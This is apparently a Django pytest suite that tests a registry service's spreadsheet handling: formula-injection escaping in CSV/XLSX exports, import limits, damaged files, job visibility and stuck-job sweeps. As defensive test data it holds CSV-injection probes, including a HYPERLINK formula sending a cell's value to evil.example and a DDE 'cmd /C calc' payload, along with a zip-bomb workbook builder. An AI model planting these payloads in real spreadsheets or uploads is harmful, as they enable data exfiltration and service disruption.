"""Spreadsheets in and out (issue 11): formula injection, import limits, damaged files, job visibility, stuck jobs.

Runs on PostgreSQL with Redis and on the embedded SQLite default. The hostile files are built in code
(support_spreadsheets). A job's outcome is taken by calling import_job_run as the worker does: on
PostgreSQL no worker runs in the suite, and inside a test transaction on_commit never fires. One
transactional test lets the embedded default run the job inside the upload's request, as it does live.
"""

from __future__ import annotations

import collections
import csv
import datetime as dt
import io
import math
import re
import uuid
import zipfile
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from areas.models import Commune, Province
from config.spreadsheets import read_rows
from members.models import ImportJob, ImportStatus
from members.registry_import import COLUMNS, REQUIRED_COLUMNS, import_job_run
from tests.factories import HamletFactory
from tests.reliability.support import assert_clear_4xx, fingerprint
from tests.security.support_spreadsheets import (
    SHEET_PATH,
    STRINGS_PATH,
    csv_file,
    letter,
    member,
    members,
    registry_sheet,
    row_xml,
    shared_strings,
    sheet_xml,
    understate_size,
    workbook,
)

pytestmark = pytest.mark.django_db

URL = "/api/v1/imports/"
# OWASP's CSV-injection rule, written out here so that the test does not trust the code's own list.
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")
PROBES = ['=HYPERLINK("http://evil.example/?x="&B1,"Xem")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=2+2"]


def dangerous_texts() -> list[str]:
    """The probe's names, and every prefix in front of each kind of payload."""
    payloads = ['cmd|" /C calc"!A0', "1+1", 'HYPERLINK("http://evil.example/","Xem")', "SUM(A1:A9)"]
    return PROBES + [prefix + payload for prefix in PREFIXES for payload in payloads]


def upload(client, content: bytes, name: str = "dang-ky.xlsx"):
    return client.post(URL, {"file": SimpleUploadedFile(name, content)}, format="multipart")


def run_job(job_id) -> ImportJob:
    """Run the job as the worker does, in the worker's language (the default, Vietnamese)."""
    with translation.override(settings.LANGUAGE_CODE):
        import_job_run(job_id=str(job_id))
    return ImportJob.objects.get(pk=job_id)


def registry_rows() -> dict:
    """Every domain row but the import jobs: equal before and after means the import wrote nothing."""
    rows = fingerprint()
    rows.pop(ImportJob._meta.label)
    return rows


def in_worker_language(msgid: str, **values) -> str:
    with translation.override(settings.LANGUAGE_CODE):
        text = gettext(msgid)
    return text % values if values else text


def failed_with(job: ImportJob, *names: str, row: int = 0, column: str = "file") -> str:
    """The job failed with one error at (row, column) whose message holds each of `names`."""
    assert job.status == ImportStatus.FAILED, (job.status, job.errors)
    assert [(e["row"], e["column"]) for e in job.errors] == [(row, column)], job.errors
    message = job.errors[0]["message"]
    for name in names:
        assert name in message, (name, message)
    return message


@pytest.fixture
def lan(world, api):
    return api(world.lan)


@pytest.fixture
def unpacked(monkeypatch):
    """Bytes read from each zip member while the test runs: what was actually unpacked, by name."""
    counts: collections.Counter = collections.Counter()
    real_open = zipfile.ZipFile.open

    def counting_open(self, name, mode="r", *args, **kwargs):
        stream = real_open(self, name, mode, *args, **kwargs)
        if mode == "r":
            key = name.filename if isinstance(name, zipfile.ZipInfo) else name
            counts[key] += 0
            real_read = stream.read

            def read(size=-1):
                data = real_read(size)
                counts[key] += len(data)
                return data

            stream.read = read
        return stream

    monkeypatch.setattr(zipfile.ZipFile, "open", counting_open)
    return counts


# --- Formula injection: every CSV and XLSX the service writes -------------------------------------


def csv_cells(content: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in line]


def xlsx_cells(content: bytes) -> list:
    """Every cell, read back as Excel would see it; none may be a formula."""
    book = load_workbook(io.BytesIO(content))  # not read-only: data_type says "f" for a formula
    cells = []
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def xml_text(text: str) -> str:
    """A text as it reads back from XLSX: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def assert_no_live_formula(cells: list, where: str) -> None:
    for value in cells:
        if isinstance(value, str) and value.startswith(PREFIXES):
            assert NUMBER.fullmatch(value), (where, value)  # "-3" in a CSV is a number, not a formula


def test_safe_cell_quotes_text_a_spreadsheet_would_run_and_keeps_numbers():
    from config.spreadsheets import RowError, errors_workbook, safe_cell

    for text in dangerous_texts():
        assert safe_cell(text) == "'" + text
    for value in (-5, -2.5, 0, Decimal("-1.5"), dt.date(2024, 5, 1), True, None):
        assert safe_cell(value) == value and type(safe_cell(value)) is type(value)
    for text in ("Thôn -1", "Tổ = 1", "'=đã có dấu nháy", "", "0912345678", "Khu phố @2"):
        assert safe_cell(text) == text
    # Dropping a character XML cannot hold must not expose a formula behind it.
    assert safe_cell("\x01=1+1") == "'=1+1"

    texts = dangerous_texts()
    report = errors_workbook([RowError(n, text, text) for n, text in enumerate(texts, start=2)])
    cells = xlsx_cells(report)
    assert_no_live_formula(cells, "errors_workbook")
    quoted = [c for c in cells if isinstance(c, str) and c.startswith("'")][::2]
    assert quoted == [xml_text("'" + t) for t in texts]
    assert [n for n in cells if isinstance(n, int)] == list(range(2, len(texts) + 2))  # numbers stay numbers


def _export_paths() -> list[str]:
    """Every coverage route, with A's province (01) and A1's commune (00001) in its parameters.

    The export twins (…/export/<format>/) are the same views as these with ?format= (tests/coverage/
    test_exports_api.py shows they give the same file)."""
    from coverage.urls import urlpatterns

    paths = []
    for pattern in urlpatterns:
        route = str(pattern.pattern)
        if "/export/" in route:
            continue
        route = re.sub(r"provinces/<[^>]+>", "provinces/01", route)
        route = re.sub(r"communes/<[^>]+>", "communes/00001", route)
        assert "<" not in route, route
        paths.append(f"/api/v1/{route}")
    return paths


def test_every_coverage_export_shows_formulas_as_text(world, api):
    from coverage import services

    texts = dangerous_texts()
    officer = api(world.hoa)
    accepted = []
    for n, text in enumerate(texts):
        name = f"{text} {n}"
        response = officer.post("/api/v1/hamlets/", {"commune": "00001", "name": name, "kind": "thon"}, format="json")
        assert response.status_code in (201, 400), (name, response.status_code)
        if response.status_code == 201:
            accepted.append(response.data["name"])
    # Units named before any check existed (or by the map's loader) reach the exports too.
    Province.objects.filter(pk=world.a.pk).update(name=PROBES[0])
    Commune.objects.filter(pk=world.a1.pk).update(name="-2+3 Phường Hoà Bình")
    HamletFactory(commune=world.a1, name="@SUM(A1:A9) Thôn Cũ")
    services.recompute_all()

    exported = []
    for path in _export_paths():
        for fmt in ("csv", "xlsx"):
            response = api(world.minh).get(path, {"format": fmt})
            assert response.status_code == 200, (path, fmt, response.status_code)
            cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
            assert_no_live_formula(cells, f"{path}?format={fmt}")
            exported += cells
    # The names are there, shown as text: a leading quote, nothing lost.
    for name in [PROBES[0], "-2+3 Phường Hoà Bình", "@SUM(A1:A9) Thôn Cũ", *accepted]:
        if name.startswith(PREFIXES):
            assert "'" + name in exported, name


def test_the_import_error_report_shows_formulas_as_text(world, lan):
    texts = dangerous_texts()
    # Jobs stored before this fix repeated cell values in their messages: those reach the report too.
    job = ImportJob.objects.create(
        province=world.a,
        created_by=world.lan,
        filename="dang-ky.xlsx",
        checksum=uuid.uuid4().hex * 2,
        content=b"",
        status=ImportStatus.FAILED,
        errors=[{"row": n, "column": text, "message": text} for n, text in enumerate(texts, start=2)],
    )
    response = lan.get(f"{URL}{job.pk}/errors.xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_no_live_formula(cells, "errors.xlsx")
    assert all(xml_text("'" + text) in cells for text in texts)


# --- Import limits ----------------------------------------------------------------------------------


def test_each_limit_is_a_setting_with_a_sane_default(settings):
    from config.spreadsheets import SheetLimits

    defaults = {
        "IMPORT_MAX_ROWS": 50_000,
        "IMPORT_MAX_COLUMNS": 50,
        "IMPORT_MAX_CELL_CHARS": 1_000,
        "IMPORT_MAX_UNPACKED_MB": 50,
        "IMPORT_MAX_ZIP_PARTS": 1_000,
        "IMPORT_MAX_SECONDS": 120,
    }
    assert {name: getattr(settings, name) for name in defaults} == defaults
    assert settings.IMPORT_MAX_SECONDS < settings.CELERY_TASK_SOFT_TIME_LIMIT
    settings.IMPORT_MAX_ROWS = 7
    assert SheetLimits.from_settings().rows == 7  # read when a file is read, not when the code is loaded


def test_a_declared_dimension_is_not_trusted(world, lan):
    # openpyxl's read-only mode pads each row to the declared A1:XFD1048576: 16,384 columns, 1,048,576 rows.
    content = workbook(registry_sheet([member()], dimension="A1:XFD1048576"))
    header, rows = read_rows(content, "dang-ky.xlsx", REQUIRED_COLUMNS)
    assert header == COLUMNS
    assert [number for number, _ in rows] == [2]

    response = upload(lan, content)
    assert response.status_code == 201, response.data
    job = run_job(response.data["id"])
    assert (job.status, job.total, job.errors) == (ImportStatus.SUCCEEDED, 1, [])


def test_a_row_at_the_bottom_of_the_sheet_is_read_without_the_rows_between(world, lan, settings):
    body = row_xml(1, COLUMNS) + row_xml(2, member()) + row_xml(1_048_576, member(phone="0981000002"))
    content = workbook(sheet_xml(body, dimension="A1:L1048576"))
    _, rows = read_rows(content, "dang-ky.xlsx", REQUIRED_COLUMNS)
    assert [number for number, _ in rows] == [2, 1_048_576]

    settings.IMPORT_MAX_ROWS = 1
    response = upload(lan, content)
    assert response.status_code == 201, response.data
    failed_with(run_job(response.data["id"]), "IMPORT_MAX_ROWS", "1")


@pytest.fixture(scope="module")
def shared_string_bomb() -> bytes:
    """A small XLSX whose one shared string unpacks to 100 MB (written in chunks, never held whole)."""
    cell = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    content = workbook(sheet_xml(cell), shared_strings=b"-", without={STRINGS_PATH})  # the relationship, no part
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(STRINGS_PATH, "w") as part:
        part.write(shared_strings(b"")[: -len(b"<si><t></t></si></sst>")] + b"<si><t>")
        chunk = b"x" * (1024 * 1024)
        for _ in range(100):
            part.write(chunk)
        part.write(b"</t></si></sst>")
    return buffer.getvalue()


def test_a_huge_shared_string_is_refused_at_upload_before_anything_is_unpacked(
    world, lan, unpacked, shared_string_bomb
):
    assert len(shared_string_bomb) < 1024 * 1024
    before = fingerprint()
    response = upload(lan, shared_string_bomb)
    assert_clear_4xx(response, 413, "file")
    message = response.data["errors"]["file"][0]
    assert "IMPORT_MAX_UNPACKED_MB" in message and "50" in message
    assert STRINGS_PATH not in unpacked  # the zip's directory said no: the string was never unpacked
    assert fingerprint() == before


def test_a_zip_of_thousands_of_parts_is_refused_at_upload(world, lan):
    padding = {f"xl/media/vat-lieu-{n}.xml": b"" for n in range(5_000)}
    before = fingerprint()
    response = upload(lan, workbook(registry_sheet([member()]), extra=padding))
    assert_clear_4xx(response, 400, "file")
    message = response.data["errors"]["file"][0]
    assert "IMPORT_MAX_ZIP_PARTS" in message and "1000" in message
    assert fingerprint() == before


def test_a_lying_zip_directory_unpacks_no_more_than_it_declares(world, lan, unpacked):
    content = understate_size(workbook(registry_sheet(members(2_000))), SHEET_PATH, 1_000)
    response = upload(lan, content)
    assert response.status_code == 201, response.data
    before = registry_rows()
    job = run_job(response.data["id"])
    failed_with(job)
    assert unpacked[SHEET_PATH] <= 1_000
    assert registry_rows() == before


def test_reading_stops_at_the_row_limit(world, lan, settings, unpacked):
    settings.IMPORT_MAX_ROWS = 100
    content = workbook(registry_sheet(members(20_000)))
    response = upload(lan, content)
    assert response.status_code == 201, response.data
    before = registry_rows()
    failed_with(run_job(response.data["id"]), "IMPORT_MAX_ROWS", "100")
    sheet_size = zipfile.ZipFile(io.BytesIO(content)).getinfo(SHEET_PATH).file_size
    assert unpacked[SHEET_PATH] < sheet_size / 10  # the rest of the sheet was never read
    assert registry_rows() == before


WIDE_HEADER = COLUMNS + [f"cot_them_{n}" for n in range(len(COLUMNS) + 1, 61)]
LONG_NAME = "Nguyễn Thị " * 100  # 1,100 characters


def _limit_cases():
    """(id, settings, file name, content, (row, column), names): each breaks one limit, at its default."""
    wide_row = member() + ["x"] * (len(WIDE_HEADER) - len(COLUMNS))
    many = members(120)
    blank_cells = "".join(f'<row r="{n}">' + "<c/>" * 20 + "</row>" for n in range(2, 40))
    for kind, make in (
        ("csv", csv_file),
        ("xlsx", lambda rows, header=COLUMNS: workbook(registry_sheet(rows, header))),
    ):
        name = f"dang-ky.{kind}"
        yield (f"rows {kind}", {"IMPORT_MAX_ROWS": 100}, name, make(many), (0, "file"), ["IMPORT_MAX_ROWS", "100"])
        yield (
            f"columns {kind}",
            {},
            name,
            make([wide_row], header=WIDE_HEADER),
            (1, letter(51)),
            ["IMPORT_MAX_COLUMNS", "50"],
        )
        yield (
            f"cell {kind}",
            {},
            name,
            make([member(full_name=LONG_NAME)]),
            (2, "full_name"),
            ["IMPORT_MAX_CELL_CHARS", "1000"],
        )
    yield (
        "csv cell beyond the csv module's own field limit",
        {},
        "dang-ky.csv",
        csv_file([member(full_name="x" * 200_000)]),
        (2, "file"),
        ["IMPORT_MAX_CELL_CHARS", "1000"],
    )
    yield (
        "blank cells count toward the rows and columns",
        {"IMPORT_MAX_ROWS": 10, "IMPORT_MAX_COLUMNS": 20},
        "dang-ky.xlsx",
        workbook(sheet_xml(row_xml(1, REQUIRED_COLUMNS) + blank_cells)),
        (0, "file"),
        ["IMPORT_MAX_ROWS", "IMPORT_MAX_COLUMNS", "220"],
    )
    yield (
        "NUL character",
        {},
        "dang-ky.csv",
        csv_file([member(full_name="Trần\x00Mai")]),
        (2, "full_name"),
        ["NUL"],
    )


LIMIT_CASES = list(_limit_cases())


@pytest.mark.parametrize(
    ("overrides", "name", "content", "where", "names"), [c[1:] for c in LIMIT_CASES], ids=[c[0] for c in LIMIT_CASES]
)
def test_a_file_over_a_limit_fails_its_job_naming_the_limit(
    world, lan, settings, overrides, name, content, where, names
):
    for setting, value in overrides.items():
        setattr(settings, setting, value)
    response = upload(lan, content, name)
    assert response.status_code == 201, response.data
    before = registry_rows()
    job = run_job(response.data["id"])
    message = failed_with(job, *names, row=where[0], column=where[1])
    assert registry_rows() == before
    assert "Trần\x00Mai" not in message and LONG_NAME.strip() not in message


def test_reading_past_the_time_limit_fails_the_job_naming_the_limit(world, lan, settings):
    response = upload(lan, workbook(registry_sheet(members(3))))
    assert response.status_code == 201, response.data
    settings.IMPORT_MAX_SECONDS = 0  # the deadline has passed before the first row
    before = registry_rows()
    failed_with(run_job(response.data["id"]), "IMPORT_MAX_SECONDS", "0")
    assert registry_rows() == before


def test_limit_messages_are_vietnamese_by_default(world, lan):
    response = upload(lan, csv_file([member(full_name=LONG_NAME)]), "dang-ky.csv")
    message = failed_with(run_job(response.data["id"]), row=2, column="full_name")
    english = (
        "The cell is longer than %(max)d characters; the import limit is %(max)d characters a cell "
        "(IMPORT_MAX_CELL_CHARS)."
    )
    assert message == in_worker_language(english, max=1000) != english % {"max": 1000}


# --- Damaged files: a clear 400 at upload, or a failed job; never a 500, never a half-done job ----


def _valid() -> bytes:
    return workbook(registry_sheet([member()]))


def _not_a_workbook_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<document/>")
    return buffer.getvalue()


NOT_A_WORKBOOK = "The file is not a readable XLSX workbook."
UPLOAD_REFUSED = {
    "truncated zip": (lambda: _valid()[: len(_valid()) // 2], "dang-ky.xlsx", 400, NOT_A_WORKBOOK),
    "not a zip": (lambda: b"PK\x03\x04 day khong phai tep zip", "dang-ky.xlsx", 400, NOT_A_WORKBOOK),
    "empty .xlsx": (lambda: b"", "dang-ky.xlsx", 400, None),
    "zip that is not a workbook": (_not_a_workbook_zip, "dang-ky.xlsx", 400, NOT_A_WORKBOOK),
    "workbook without its sheet": (
        lambda: workbook(registry_sheet([member()]), without={SHEET_PATH}),
        "dang-ky.xlsx",
        400,
        "The workbook has no worksheet.",
    ),
    "workbook with no sheets": (
        lambda: workbook(
            registry_sheet([member()]),
            extra={"xl/workbook.xml": b'<workbook xmlns="x"><sheets/></workbook>'},
        ),
        "dang-ky.xlsx",
        400,
        "The workbook has no worksheet.",
    ),
    "csv not in utf-8": (lambda: csv_file([member()]).decode().encode("utf-16"), "dang-ky.csv", 400, None),
    "csv in latin-1": (lambda: "commune_code,full_name\n00001,Tên\n".encode("latin-1"), "dang-ky.csv", 400, None),
}


@pytest.mark.parametrize(("make", "name", "status", "msgid"), UPLOAD_REFUSED.values(), ids=UPLOAD_REFUSED.keys())
def test_a_damaged_upload_is_a_clear_4xx_and_writes_nothing(world, lan, make, name, status, msgid):
    before = fingerprint()
    response = upload(lan, make(), name)
    assert_clear_4xx(response, status, "file")
    if msgid:
        assert response.data["errors"]["file"] == [gettext(msgid)]
    assert fingerprint() == before


HEADER = row_xml(1, COLUMNS)
GOOD = row_xml(2, member())
DAMAGED_SHEETS = {
    "truncated sheet": sheet_xml(HEADER + GOOD)[:-40],
    "cell beyond column XFD": sheet_xml(HEADER + '<row r="3"><c r="ZZZZZ3" t="inlineStr"><is><t>x</t></is></c></row>'),
    "text in a number cell": sheet_xml(HEADER + GOOD + '<row r="3"><c r="A3" t="n"><v>abc</v></c></row>'),
    "shared string that does not exist": sheet_xml(HEADER + '<row r="2"><c r="A2" t="s"><v>7</v></c></row>'),
    "date cell that is no date": sheet_xml(HEADER + '<row r="2"><c r="E2" t="d"><v>hom qua</v></c></row>'),
    "number of 5,000 digits": sheet_xml(HEADER + '<row r="2"><c r="L2"><v>' + "9" * 5_000 + "</v></c></row>"),
    "row below the last row": sheet_xml(HEADER + row_xml(1_048_577, member())),
    "rows out of order": sheet_xml(HEADER + row_xml(3, member()) + GOOD),
    "the same cell a million times": sheet_xml(HEADER + '<row r="2">' + '<c r="A2"/>' * 1_000_000 + "</row>"),
    "entity declaration": sheet_xml(HEADER, prologue='<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>'),
    "nesting 100,000 deep": sheet_xml(HEADER + "<x>" * 100_000 + "</x>" * 100_000),
    "not XML": b"\x00\x01 khong phai XML",
}


@pytest.mark.parametrize("sheet", DAMAGED_SHEETS.values(), ids=DAMAGED_SHEETS.keys())
def test_a_damaged_sheet_fails_its_job_with_a_message_and_writes_nothing(world, lan, sheet):
    response = upload(lan, workbook(sheet))
    assert response.status_code == 201, response.data
    before = registry_rows()
    message = failed_with(run_job(response.data["id"]))
    damaged = in_worker_language(
        "The XLSX file is damaged near row %(row)d; open it in Excel, save it again and upload it.", row=999_999
    )
    assert re.fullmatch(re.escape(damaged).replace("999999", r"\d+"), message), message
    assert registry_rows() == before


FAILED, SUCCEEDED = ImportStatus.FAILED, ImportStatus.SUCCEEDED
HOSTILE_IN_REQUEST = {
    "cell beyond column XFD": (workbook(DAMAGED_SHEETS["cell beyond column XFD"]), "dang-ky.xlsx", FAILED),
    "text in a number cell": (workbook(DAMAGED_SHEETS["text in a number cell"]), "dang-ky.xlsx", FAILED),
    "too many columns": (csv_file([member() + ["x"] * 48], header=WIDE_HEADER), "dang-ky.csv", FAILED),
    # A header and nothing else, declared as the whole sheet: an empty registry, read at once.
    "declared dimension, no rows": (workbook(sheet_xml(HEADER, dimension="A1:XFD1048576")), "dang-ky.xlsx", SUCCEEDED),
}


def _unqueue(job_id: str) -> None:
    """Take this job's message back out of the real broker, so that no later test finds it queued."""
    import redis

    broker = redis.Redis.from_url(settings.CELERY_BROKER_URL)
    for raw in broker.lrange("celery", 0, -1):
        if job_id.encode() in raw:
            broker.lrem("celery", 0, raw)


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(("content", "name", "outcome"), HOSTILE_IN_REQUEST.values(), ids=HOSTILE_IN_REQUEST.keys())
def test_hostile_uploads_never_500_even_when_the_job_runs_inside_the_request(world, api, content, name, outcome):
    before = registry_rows()
    response = upload(api(world.lan), content, name)
    assert response.status_code == 201, (response.status_code, getattr(response, "data", None))
    if settings.CELERY_TASK_ALWAYS_EAGER:
        assert response.data["status"] == outcome  # the embedded mode ran it before answering
    else:
        _unqueue(response.data["id"])  # queued on commit for a worker; this test is the worker
    job = run_job(response.data["id"])
    assert job.status == outcome and bool(job.errors) == (outcome == FAILED)
    assert registry_rows() == before


# --- Who reads a job, and what its messages say -----------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "status"),
    [("lan", 200), ("minh", 200), ("hoa", 404), ("hai", 404), ("tuan", 404), ("tam", 404), ("binh", 404), ("bao", 404)],
)
def test_a_job_is_read_only_by_its_province_admins_and_the_ministry(world, api, persona, status):
    response = upload(api(world.lan), csv_file([member(role="boss")]), "dang-ky.csv")
    job_id = response.data["id"]
    run_job(job_id)
    client = api(getattr(world, persona))
    assert client.get(f"{URL}{job_id}/").status_code == status
    assert client.get(f"{URL}{job_id}/errors.xlsx").status_code == status
    visible = ImportJob.objects.visible_to(getattr(world, persona)).filter(pk=job_id).exists()
    assert visible == (status == 200)


PHONE, CCCD = "0976543210", "001203004567"


def test_import_errors_never_echo_phones_citizen_ids_or_cell_values(world, lan):
    rows = [
        member(phone="0981000001", role=PHONE),
        member(phone="0981000002", background=CCCD),
        member(phone="0981000003", gender="+84 976 543 210"),
        member(phone="0981000004", hamlet_name="Thôn Lạ", team_name="Tổ Lạ", hamlet_kind=PHONE),
        member(phone="0981000005", birth_year=CCCD),
        member(phone=CCCD),
        member(phone="0981000007", established_on=PHONE),
        member(phone="0981000008", commune_code=CCCD),
        member(phone="0981000009", role="Trưởng thôn Zyxw"),
        member(phone="0981000010", decision_number=PHONE * 11),
    ]
    response = upload(lan, csv_file(rows), "dang-ky.csv")
    job = run_job(response.data["id"])
    assert job.status == ImportStatus.FAILED and len(job.errors) >= len(rows)
    report = xlsx_cells(lan.get(f"{URL}{job.pk}/errors.xlsx").content)
    texts = [e["message"] for e in job.errors] + [e["column"] for e in job.errors] + [str(c) for c in report]
    for text in texts:
        digits = re.sub(r"\D", "", text)
        assert PHONE not in digits and CCCD not in digits and PHONE[1:] not in digits, text
        assert "Zyxw" not in text, text


# --- Stuck jobs ------------------------------------------------------------------------------------


def _job(world, **fields) -> ImportJob:
    created_at = fields.pop("created_at", None)
    job = ImportJob.objects.create(
        province=world.a,
        created_by=world.lan,
        filename="dang-ky.csv",
        checksum=uuid.uuid4().hex * 2,
        content=csv_file([member()]),
        **fields,
    )
    if created_at:
        ImportJob.objects.filter(pk=job.pk).update(created_at=created_at)
    return job


def _stuck_after() -> dt.timedelta:
    return dt.timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + settings.IMPORT_STUCK_MARGIN_SECONDS)


def _stuck_message() -> str:
    msgid = (
        "The import stopped without finishing within %(minutes)d minutes; nothing was written. Upload the file again."
    )
    return in_worker_language(msgid, minutes=math.ceil(_stuck_after().total_seconds() / 60))


def test_the_beat_task_fails_jobs_stuck_past_the_hard_time_limit(world, django_assert_num_queries):
    from members.tasks import fail_stuck_imports

    now = timezone.now()
    old, recent = now - _stuck_after() - dt.timedelta(minutes=1), now - _stuck_after() + dt.timedelta(minutes=1)
    pending_old = _job(world, created_at=old)
    running_old = _job(world, status=ImportStatus.RUNNING, started_at=old, created_at=old)
    running_recent = _job(world, status=ImportStatus.RUNNING, started_at=recent, created_at=old)
    pending_recent = _job(world, created_at=recent)
    succeeded_old = _job(world, status=ImportStatus.SUCCEEDED, started_at=old, finished_at=old, created_at=old)

    with translation.override(settings.LANGUAGE_CODE), django_assert_num_queries(1):  # one UPDATE
        assert fail_stuck_imports() == 2

    for job in (pending_old, running_old):
        job.refresh_from_db()
        assert job.status == ImportStatus.FAILED and job.finished_at is not None
        assert job.errors == [{"row": 0, "column": "file", "message": _stuck_message()}]
    for job, status in ((running_recent, "running"), (pending_recent, "pending"), (succeeded_old, "succeeded")):
        job.refresh_from_db()
        assert job.status == status, job
    english = "The import stopped without finishing within %(minutes)d minutes"
    assert not _stuck_message().startswith(english[:20])  # Vietnamese by default, like every message


def test_the_stuck_job_sweep_is_on_the_beat_schedule():
    from config.celery import app, registered_task

    entries = [e for e in app.conf.beat_schedule.values() if e["task"] == "members.fail_stuck_imports"]
    assert len(entries) == 1 and entries[0]["schedule"] <= 600
    assert registered_task("members.fail_stuck_imports").name == "members.fail_stuck_imports"


def test_a_runner_that_outlived_the_limit_cannot_overwrite_its_failed_job(world, lan, monkeypatch):
    from members.registry_import import jobs as module

    response = upload(lan, csv_file(members(4)), "dang-ky.csv")
    before = registry_rows()
    real_read_rows = module.read_registry_rows

    def read_slowly(*args, **kwargs):
        # Still reading when beat's sweep finds the job past the limit, and fails it.
        with translation.override(settings.LANGUAGE_CODE):
            assert module.import_jobs_fail_stuck(now=timezone.now() + _stuck_after() * 2) == 1
        return real_read_rows(*args, **kwargs)

    monkeypatch.setattr(module, "read_registry_rows", read_slowly)
    job = run_job(response.data["id"])
    assert job.status == ImportStatus.FAILED
    assert job.errors == [{"row": 0, "column": "file", "message": _stuck_message()}]
    assert registry_rows() == before


def test_a_job_failed_while_it_writes_keeps_none_of_its_writes(world, lan, monkeypatch):
    from members.registry_import import jobs as module

    response = upload(lan, csv_file(members(4)), "dang-ky.csv")
    before = registry_rows()
    real_import = module.registry_import

    def import_then_get_swept(**kwargs):
        result = real_import(**kwargs)  # the rows are written, in the run's transaction
        assert module.import_jobs_fail_stuck(now=timezone.now() + _stuck_after() * 2) == 1
        return result

    monkeypatch.setattr(module, "registry_import", import_then_get_swept)
    job = run_job(response.data["id"])
    # The run found its job failed when it came to record success, and rolled its writes back. (Here the
    # sweep ran on the run's own connection, so it rolled back too; beat's own UPDATE would stay.)
    assert job.status != ImportStatus.SUCCEEDED
    assert registry_rows() == before
